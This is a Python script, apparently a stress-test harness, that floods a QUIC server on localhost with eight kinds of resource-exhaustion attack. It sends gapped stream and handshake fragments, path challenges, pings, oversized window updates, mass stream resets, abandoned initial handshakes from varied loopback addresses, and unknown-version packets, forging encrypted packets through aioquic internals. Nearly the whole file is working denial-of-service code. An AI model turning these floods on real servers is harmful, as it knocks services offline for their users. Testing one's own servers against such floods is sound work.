"""What exhausts servers of QUIC, done for some seconds: one line at the end says what became of it.

Usage: quic_attacks.py KIND PORT PROTOCOL SECONDS [CONNECTIONS]

  pieces     streams whose every second octet comes, and never the first
  crypto     the same of a handshake, whose client proves its address when it is asked to
  paths      questions whether a path is there, each of which wants an answer
  pings      packets that ask for nothing but an acknowledgement
  updates    windows that get larger, of streams that there are not
  resets     streams that are given up as soon as they are begun
  initials   first packets of handshakes that do not go on, each from another port
  versions   first packets of a version that nobody has
"""
import asyncio
import os
import socket
import ssl
import sys
import time

from aioquic.asyncio import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import Buffer, encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.events import ConnectionTerminated
from aioquic.quic.packet import QuicPacketType, pull_quic_header
from aioquic.tls import Epoch

HOST = "127.0.0.1"
VERSION = 1
PACKET_OCTETS = 1150
BATCH = 20  # datagrams between two looks at what the server says


def varint(number):
    return encode_uint_var(number)


def piece(stream, offset):
    return b"\x0e" + varint(stream) + varint(offset) + b"\x01x"


def pieces():
    # Within the window of each stream, else the connection ends for that.
    for stream in range(0, 400, 4):
        for offset in range(1, 4 << 10, 2):
            yield piece(stream, offset)


def crypto_pieces():
    for offset in range(1, 1 << 16, 2):
        yield b"\x06" + varint(offset) + b"\x01x"


def resets():
    # Both directions: given up, and the answer is not wanted.
    for stream in range(0, 4 * 10**6, 4):
        yield b"\x04" + varint(stream) + varint(3) + varint(0)
        yield b"\x05" + varint(stream) + varint(3)


def again(frame):
    while True:
        yield frame


FRAMES = {
    "pieces": pieces,
    "paths": lambda: again(b"\x1a" + os.urandom(8)),
    "pings": lambda: again(b"\x01" + bytes(30)),
    "updates": lambda: again(b"\x10" + varint(1 << 40)),
    "resets": resets,
}


def packets(frames, octets=PACKET_OCTETS):
    packet = b""
    for frame in frames:
        if len(packet) + len(frame) > octets:
            yield packet
            packet = b""
        packet += frame
    yield packet


class Client(QuicConnectionProtocol):
    ended = None

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.ended = f"closed {event.error_code:#x}"


def ignore_resets(quic):
    # What the server says of streams that aioquic has not begun itself.
    handlers = quic._QuicConnection__frame_handlers
    for kind, numbers in ((0x04, 3), (0x05, 2)):
        epochs = handlers[kind][1]
        handlers[kind] = (
            lambda _, __, frame, numbers=numbers: [frame.pull_uint_var() for _ in range(numbers)],
            epochs)


async def flood(kind, port, protocol, until):
    configuration = QuicConfiguration(
        is_client=True, alpn_protocols=[protocol], verify_mode=ssl.CERT_NONE)
    octets = 60 if kind == "pings" else PACKET_OCTETS
    async with connect(HOST, port, configuration=configuration, create_protocol=Client) as client:
        quic = client._quic
        keys = quic._cryptos[Epoch.ONE_RTT]
        ignore_resets(quic)
        for count, packet in enumerate(packets(FRAMES[kind](), octets)):
            if client.ended or time.monotonic() > until:
                break
            number = quic._packet_number
            quic._packet_number += 1
            head = bytes([0x41 | keys.send.key_phase << 2]) + quic._peer_cid.cid
            head += (number & 0xffff).to_bytes(2, "big")
            client._transport.sendto(
                keys.encrypt_packet(head, packet, number), ("::ffff:" + HOST, port, 0, 0))
            if count % BATCH == BATCH - 1:
                await asyncio.sleep(0.001)
        while kind == "pieces" and not client.ended and time.monotonic() < until:
            await asyncio.sleep(0.05)
        return client.ended or "open"


async def floods(kind, port, protocol, until, connections):
    async def one():
        ended = "refused"
        while time.monotonic() < until:
            try:
                ended = await flood(kind, port, protocol, until)
            except (ConnectionError, AssertionError, asyncio.TimeoutError):
                ended = "refused"
                await asyncio.sleep(0.05)
        return ended

    ends = await asyncio.gather(*[one() for _ in range(connections)])
    return ", ".join(f"{end} {ends.count(end)}" for end in sorted(set(ends)))


class Handshake:
    """The client's side of a handshake, in packets of the first kind alone."""

    def __init__(self, source):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((source, 0))
        self.socket.setblocking(False)
        self.local = os.urandom(8)
        self.number = 0
        self.retry(os.urandom(8), b"")

    def retry(self, remote, token):
        self.remote = remote
        self.token = token
        self.keys = CryptoPair()
        self.keys.setup_initial(remote, is_client=True, version=VERSION)

    def send(self, port, frames):
        frames += bytes(max(0, PACKET_OCTETS - len(frames)))
        head = bytes([0xc1]) + VERSION.to_bytes(4, "big")
        head += bytes([len(self.remote)]) + self.remote + bytes([len(self.local)]) + self.local
        head += varint(len(self.token)) + self.token
        head += (0x4000 | 2 + len(frames) + 16).to_bytes(2, "big")
        head += self.number.to_bytes(2, "big")
        packet = self.keys.encrypt_packet(head, frames, self.number)
        self.number += 1
        self.socket.sendto(packet, (HOST, port))

    def listen(self):
        """Whether the server wants a proof of our address, which is then there."""
        try:
            header = pull_quic_header(Buffer(data=self.socket.recv(2048)), host_cid_length=8)
        except (BlockingIOError, ConnectionError, ValueError):
            return False
        if header.packet_type == QuicPacketType.RETRY:
            self.retry(header.source_cid, header.token)
            return True
        return False


def crypto(port, until, connections):
    whole = list(packets(crypto_pieces()))
    opened = 0
    while time.monotonic() < until:
        clients = []
        for each in range(connections):
            client = Handshake(f"127.0.0.{10 + each % 6}")
            client.send(port, whole[0])
            clients.append(client)
            opened += 1
        time.sleep(0.05)
        for client in clients:
            if client.listen():
                client.send(port, whole[0])
        for packet in whole[1:]:
            for client in clients:
                client.send(port, packet)
            if time.monotonic() > until:
                break
            time.sleep(0.001)
        for client in clients:
            client.socket.close()
    return f"begun {opened}"


def initials(port, protocol, until):
    configuration = QuicConfiguration(
        is_client=True, alpn_protocols=[protocol], verify_mode=ssl.CERT_NONE)
    greetings = []
    for _ in range(200):
        client = QuicConnection(configuration=configuration)
        client.connect((HOST, port), now=0)
        greetings.append([data for data, _ in client.datagrams_to_send(now=0)])
    return many(port, greetings, until)


def versions(port, until):
    greetings = []
    for _ in range(200):
        head = b"\xc1\x0a\x0b\x0c\x0d\x08" + os.urandom(8) + b"\x08" + os.urandom(8)
        greetings.append([head + bytes(1200 - len(head))])
    return many(port, greetings, until)


def many(port, greetings, until):
    sent = 0
    while time.monotonic() < until:
        for greeting in greetings:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ours:
                ours.bind((f"127.0.0.{10 + sent % 200}", 0))
                for datagram in greeting:
                    ours.sendto(datagram, (HOST, port))
            sent += 1
        time.sleep(0.001)
    return f"sent {sent}"


def main(kind, port, protocol, seconds, connections="1"):
    port = int(port)
    until = time.monotonic() + float(seconds)
    if kind == "crypto":
        print(crypto(port, until, int(connections)))
    elif kind == "initials":
        print(initials(port, protocol, until))
    elif kind == "versions":
        print(versions(port, until))
    else:
        print(asyncio.run(floods(kind, port, protocol, until, int(connections))))


main(*sys.argv[1:])
